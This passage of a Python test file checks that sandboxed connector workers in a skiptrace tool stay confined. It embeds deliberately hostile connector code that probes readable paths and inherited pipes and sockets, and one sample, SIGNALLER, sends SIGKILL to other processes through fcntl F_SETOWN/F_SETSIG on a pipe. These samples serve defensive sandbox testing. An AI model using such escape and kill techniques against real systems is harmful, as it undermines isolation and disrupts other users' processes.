        Path, sysconfig = LOAD("pathlib").Path, LOAD("sysconfig")
        CONFINE = SYS.modules["skiptrace.connectors._confine"]
        KNOWN = CONFINE.interpreter_paths.cache_info().hits  # found before this worker asked


        def found_alone(folder):
            found = {Path(p) for key in ("stdlib", "platstdlib", "purelib", "platlib")
                     if (p := sysconfig.get_paths().get(key))}
            found |= {Path(SYS.executable).resolve(), Path(sysconfig.get_config_var("LIBDIR"))}
            found |= {Path(p) for p in ("/usr/lib", "/lib", "/lib64", "/usr/lib64",
                                        "/usr/local/lib", "/etc/ld.so.cache")}
            on_path = {Path(p) for p in SYS.path if p}
            found |= {p for p in on_path if p.name in ("site-packages", "dist-packages")}
            others = [p for p in on_path if not any(p.is_relative_to(f) for f in found)]
            for module in BUILTINS.list(SYS.modules.values()):  # the starter's are among them
                file = BUILTINS.getattr(module, "__fi" + "le__", None)
                for other in others:
                    if BUILTINS.isinstance(file, str) and Path(file).is_relative_to(other):
                        top = Path(file).relative_to(other).parts[0]
                        found.add(other if other.is_file() else other / top)
            return [str(p) for p in sorted(p for p in found if p.exists())]


        class Finder:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {"q": "x"})
                folder = Path(__file__).parent
                confined = [str(p) for p in CONFINE.readable_paths()]
                said = BUILTINS.repr((KNOWN, confined, found_alone(folder)))
                return [SourceRecord(session.provenance(page), employer=said)]


        CONNECTOR = Finder()
        """))  # fmt: skip
    [result], _ = _searches(load_manifest(folder / "hostile.toml"), fast_policy, audit)
    assert result.status == "hit", result
    known, confined, alone = ast.literal_eval(result.records[0].employer)
    assert known > 0  # the starter had found them: the worker's own ask was answered so
    assert confined == alone and str(folder) not in confined, (confined, alone)


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_loads_the_call_filter_its_starter_built_and_signals_only_itself(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """Each worker built its seccomp filter anew (some 2 ms of its start); its starter now builds
    it once, before it forks, and each worker adds only its own pid, to which alone it may
    send a signal: its starter, the run and pid 1 are refused (``HOSTILE_ACTIONS`` tries
    its parent among the rest)."""
    folder = tmp_path / "signaller"
    _written(folder, PRELUDE + textwrap.dedent("""
        os = LOAD("os")
        CONFINE = SYS.modules["skiptrace.connectors._confine"]
        BUILT = CONFINE.refused_calls.cache_info().hits  # asked for by this worker's confine


        class Signaller:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {"q": "x"})
                said = [attempt(lambda: os.kill(pid, 0))
                        for pid in (os.getpid(), os.getppid(), 1)]
                return [SourceRecord(session.provenance(page),
                                     employer=BUILTINS.repr((BUILT, said)))]


        CONNECTOR = Signaller()
        """))  # fmt: skip
    [result], _ = _searches(load_manifest(folder / "hostile.toml"), fast_policy, audit)
    assert result.status == "hit", result
    built, said = ast.literal_eval(result.records[0].employer)
    assert built > 0  # the starter had built it: the worker's own ask was answered so
    assert said[0] == "OPEN None" and all(s.startswith("refused ") for s in said[1:]), said


@pytest.mark.usefixtures("lent_starters")
def test_every_module_a_built_in_connector_imports_is_loaded_before_its_worker_is_forked(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """A module the starter has not imported is imported again by every worker of a connector
    that needs it: SEC EDGAR's XML parser, 2-3 ms of each of its searches. A connector says what
    its worker held as it began to load; each module a built-in connector imports is there."""
    folder = tmp_path / "lister"
    _written(folder, PRELUDE + textwrap.dedent("""
        AT_LOAD = BUILTINS.repr(BUILTINS.sorted(SYS.modules))


        class Lister:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {"q": "x"})
                return [SourceRecord(session.provenance(page), employer=AT_LOAD)]


        CONNECTOR = Lister()
        """))  # fmt: skip
    [result], _ = _searches(load_manifest(folder / "hostile.toml"), fast_policy, audit)
    assert result.status == "hit", result
    loaded = set(ast.literal_eval(result.records[0].employer))
    imported = {name for source in builtin_dir("connectors").glob("*.py")
                for name in _imports(source.read_text(encoding="utf-8"))}  # fmt: skip
    assert "rapidfuzz" in imported and imported - loaded == set(), imported - loaded


def _imports(source: str) -> set[str]:
    """The modules a source imports by name (``import a.b``, ``from a.b import c``)."""
    found: set[str] = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            found.add(node.module)
    return found


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_holds_no_channel_to_its_starter_or_another_worker(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """Workers are forked by a starter that passes each its pipes over a socket: a worker that
    kept that socket could have the starter fork workers of its choosing, and one that kept
    another worker's pipes could read that worker's debtor. Each open file of the worker is
    looked at, as it loads and as it searches: none is a packet socket or a pipe past its own
    three streams."""
    folder = tmp_path / "prober"
    _written(folder, PRELUDE + textwrap.dedent("""
        def probe():
            os, stat, sockets = LOAD("os"), LOAD("stat"), LOAD("socket")
            wrap = BUILTINS.getattr(sockets, "socket")
            stream = BUILTINS.getattr(sockets, "SOCK_STREAM")
            found = []
            for fd in range(3, 1024):
                try:
                    mode = os.fstat(fd).st_mode
                except OSError:
                    continue
                if stat.S_ISFIFO(mode):
                    found.append(f"pipe {fd}")
                elif stat.S_ISSOCK(mode):
                    with wrap(fileno=os.dup(fd)) as sock:
                        if sock.type != stream:  # not asyncio's own wake-up pair
                            found.append(f"socket {fd} {sock.type!r}")
            return " ".join(found) or "none"


        AT_LOAD = probe()


        class Prober:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {"q": "x"})
                return [SourceRecord(session.provenance(page), person_name=AT_LOAD,
                                     employer=probe())]


        CONNECTOR = Prober()
        """))  # fmt: skip
    [result], _ = _searches(load_manifest(folder / "hostile.toml"), fast_policy, audit)
    assert result.status == "hit", result
    [record] = result.records
    assert (record.person_name, record.employer) == ("none", "none")


def test_no_worker_outlives_its_search_and_none_is_left_when_the_run_closes(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """The search's worker says its pid and its starter's. Once the search is over the
    starter runs no worker: a worker forked for the next search while one held a debtor
    could be signalled or locked at by it (a review carried an employer across that way).
    Once the run has closed, neither the worker nor the starter is running."""
    folder = tmp_path / "teller"
    _written(folder, PRELUDE + textwrap.dedent("""
        os = LOAD("os")


        class Teller:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {"q": "x"})
                return [SourceRecord(session.provenance(page),
                                     employer=f"{os.getpid()},{os.getppid()}")]


        CONNECTOR = Teller()
        """))  # fmt: skip
    pids: list[int] = []
    between: list[int] = []

    def while_open(result: Any) -> None:
        worker, starter = (int(p) for p in result.records[0].employer.split(","))
        pids.extend((worker, starter))
        time.sleep(0.3)  # a spare would have been forked by now
        children = Path(f"/proc/{starter}/task/{starter}/children").read_text().split()
        between.extend(int(c) for c in children if _running(int(c)))

    connector = load_manifest(folder / "hostile.toml")  # held: its sandbox is not collected
    [result], _ = _searches(connector, fast_policy, audit, after=while_open)
    assert result.status == "hit", result
    assert len(pids) == 2 and pids[1] != os.getpid() and between == [], (pids, between)
    assert not _running(pids[1])  # the run waited for its starter to end
    deadline = time.monotonic() + 5
    while _running(pids[0]) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not _running(pids[0])


@pytest.mark.parametrize("length", [100_000, 300_000])
def test_a_connector_whose_version_its_starter_cannot_read_fails_alone(
    length: int, tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """A review: a manifest's version of 100,000 characters made the message asking the
    starter for its worker longer than the starter reads, which it died of (300,000: longer
    than the socket sends, and the sandbox, taking the starter for dead, ended it), ending
    with it every worker it had started: another connector's search under way was an error.
    The long one fails alone; the other's search goes on."""
    _written(tmp_path / "waiter", PRELUDE + textwrap.dedent("""
        class Waiter:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {"q": "x"})
                await LOAD("asyncio").sleep(0.5)  # the long one's worker is asked for meanwhile
                return [SourceRecord(session.provenance(page), employer="waited")]


        CONNECTOR = Waiter()
        """))  # fmt: skip
    long = _connector(tmp_path / "long", "1")
    long.write_text(
        MANIFEST.replace('id = "hostile"', 'id = "long"').replace('"1"', f'"{"1" * length}"'),
        encoding="utf-8",
    )
    connectors = [load_manifest(tmp_path / "waiter" / "hostile.toml"), load_manifest(long)]
    start = Reply(200, b"{}", {"Content-Type": "application/json"})
    with ReplayServer({"/start": start}) as origin:

        async def research() -> list[Any]:
            rewrite = {"https://hostile.example": origin.base_url}
            async with Run(origin.allow(fast_policy), audit, connectors, purpose="hostile test",
                           rewrite=rewrite) as run:  # fmt: skip
                return await run.research(Query.of("A1", employer="Acme"))

        waiter, longer = asyncio.run(asyncio.wait_for(research(), 60))
    assert waiter.status == "hit", waiter
    assert longer.status == "error" and "longer than" in longer.detail, longer


def test_a_starter_that_was_killed_is_started_again(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """The kernel may kill the starter (out of memory): every later search of the connector
    had failed, "the sandbox's worker starter is gone"."""
    folder = tmp_path / "teller"
    _written(folder, PRELUDE + textwrap.dedent("""
        class Teller:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {"q": "x"})
                return [SourceRecord(session.provenance(page),
                                     employer=str(LOAD("os").getppid()))]


        CONNECTOR = Teller()
        """))  # fmt: skip
    killed: list[int] = []

    def kill_the_first_starter(result: Any) -> None:
        if not killed:
            killed.append(int(result.records[0].employer))
            os.kill(killed[0], signal.SIGKILL)

    connector = load_manifest(folder / "hostile.toml")
    (first, *later), _ = _searches(connector, fast_policy, audit, ["Acme"] * 3,
                                   after=kill_the_first_starter)  # fmt: skip
    assert [result.status for result in later] == ["hit", "hit"], later
    assert later[0].records[0].employer != first.records[0].employer  # a new starter


def test_a_worker_cancelled_as_it_starts_leaves_no_file_open(
    tmp_path: Path, shared_starters: SharedStarters
) -> None:
    """A search's deadline, or the run closing, may cancel a worker's start after the starter
    has forked it: its pidfd and pipes had stayed open for the life of the process. The
    session's starter is borrowed, as a run's sandbox borrows it."""
    folder = tmp_path / "idle"
    folder.mkdir()
    (folder / "hostile.py").write_text(PRELUDE + "\nCONNECTOR = None\n", encoding="utf-8")
    argv = [str(folder / "hostile.py"), "CONNECTOR", "hostile", "1"]

    def open_files() -> set[str]:
        return set(os.listdir("/proc/self/fd"))

    async def main() -> tuple[set[str], set[str], list[int]]:
        zygote = await shared_starters.start()
        try:
            await (await zygote.spawn(argv)).end()
            before = open_files()
            for pause in (0, 0, 0.001, 0.002, 0.005, 0.01):
                task = asyncio.create_task(zygote.spawn(argv))
                await asyncio.sleep(pause)  # somewhere along its start
                task.cancel()
                done = (await asyncio.gather(task, return_exceptions=True))[0]
                if isinstance(done, Worker):
                    await done.end()
            await asyncio.sleep(0.3)
            starter = _pid(zygote)
            children = Path(f"/proc/{starter}/task/{starter}/children").read_text().split()
            return before, open_files(), [int(c) for c in children if _running(int(c))]
        finally:
            await zygote.aclose()

    before, after, running = asyncio.run(main())
    assert after - before == set() and running == [], (after - before, running)


def _pid(starter: Zygote | LentStarter) -> int:
    """The process of a starter, lent or a sandbox's own."""
    return (starter._zygote if isinstance(starter, LentStarter) else starter)._process.pid


def _running(pid: int) -> bool:
    """Whether ``pid`` is a process that has not ended (a zombie has)."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except (FileNotFoundError, ProcessLookupError):
        return False
    return fields[0] != "Z"


SIGNALLER = """
os, fcntl, signals = LOAD("os"), LOAD("fcntl"), LOAD("signal")


def signal_through_a_pipe(pid, number):
    # the kernel signals a pipe's owner when it can be read: no kill(2) is made
    r, w = os.pipe()
    try:
        fcntl.fcntl(r, 8, pid)  # F_SETOWN
        fcntl.fcntl(r, 10, number)  # F_SETSIG
        fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(w, b"x")
        return "sent"
    except BUILTINS.OSError as exc:
        return "refused " + BUILTINS.repr(exc)[:60]
    finally:
        os.close(r)
        os.close(w)
"""


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_cannot_have_the_kernel_signal_another_process(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """A bystander of the same user (the skiptrace process could be one) and the worker's
    starter are sent SIGKILL the way a review sent them: every later search still runs."""
    bystander = subprocess.Popen(["sleep", "60"])
    try:
        folder = tmp_path / "sniper"
        _written(folder, PRELUDE + SIGNALLER + textwrap.dedent(f"""
            class Sniper:
                async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                    page = await session.get("https://hostile.example/start", {{"q": "x"}})
                    said = [signal_through_a_pipe(pid, signals.SIGKILL)
                            for pid in ({bystander.pid}, os.getppid())]
                    return [SourceRecord(session.provenance(page), employer=" | ".join(said))]


            CONNECTOR = Sniper()
            """))  # fmt: skip
        found, _ = _searches(load_manifest(folder / "hostile.toml"), fast_policy, audit,
                             ["Acme"] * 3)  # fmt: skip
        time.sleep(0.2)
        assert bystander.poll() is None, bystander.returncode
        assert [result.status for result in found] == ["hit"] * 3, found
        for result in found:
            assert all(said.startswith("refused PermissionError(1,")
                       for said in result.records[0].employer.split(" | ")), result  # fmt: skip
    finally:
        bystander.kill()
        bystander.wait()


def test_a_starter_that_cannot_start_is_tried_once_and_said_so(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its failure had been caught as a killed starter's and tried again, twice a search."""
    starts: list[int] = []
    real = Zygote.start.__func__  # type: ignore[attr-defined]

    async def counted(cls: type[Zygote]) -> Zygote:
        starts.append(1)
        return await real(cls)

    monkeypatch.setattr(zygote_module, "_BOOT", "import sys; sys.exit(3)")
    monkeypatch.setattr(Zygote, "start", classmethod(counted))
    folder = tmp_path / "plain"
    _written(folder, PRELUDE + "\nCONNECTOR = None\n")
    found, _ = _searches(load_manifest(folder / "hostile.toml"), fast_policy, audit,
                         ["Acme"] * 3)  # fmt: skip
    assert len(starts) == 1, starts
    assert all(result.status == "error" for result in found), found
    assert all(result.detail.startswith("hostile: the sandbox's worker starter did not start")
               for result in found), found  # fmt: skip


def test_a_worker_whose_start_was_cancelled_has_ended_before_the_next_is_forked(
    tmp_path: Path, shared_starters: SharedStarters
) -> None:
    """A cancelled start's worker was killed, not waited for: the next spawn returned with
    both alive, the first still loading its connector. The session's starter is borrowed."""
    folder = tmp_path / "slow"
    folder.mkdir()
    (folder / "hostile.py").write_text(PRELUDE + "\nLOAD('time').sleep(2)\nCONNECTOR = None\n",
                                       encoding="utf-8")  # fmt: skip
    argv = [str(folder / "hostile.py"), "CONNECTOR", "hostile", "1"]

    async def main() -> list[int]:
        zygote = await shared_starters.start()
        alive: list[int] = []
        try:
            starter = _pid(zygote)
            children = Path(f"/proc/{starter}/task/{starter}/children")
            for pause in (0, 0.001, 0.003, 0.01, 0.03):
                task = asyncio.create_task(zygote.spawn(argv))
                await asyncio.sleep(pause)
                task.cancel()
                done = (await asyncio.gather(task, return_exceptions=True))[0]
                if isinstance(done, Worker):
                    await done.end()
                worker = await zygote.spawn(argv)
                alive.append(sum(_running(int(c)) for c in children.read_text().split()))
                await worker.end()
        finally:
            await zygote.aclose()
        return alive

    assert asyncio.run(main()) == [1] * 5
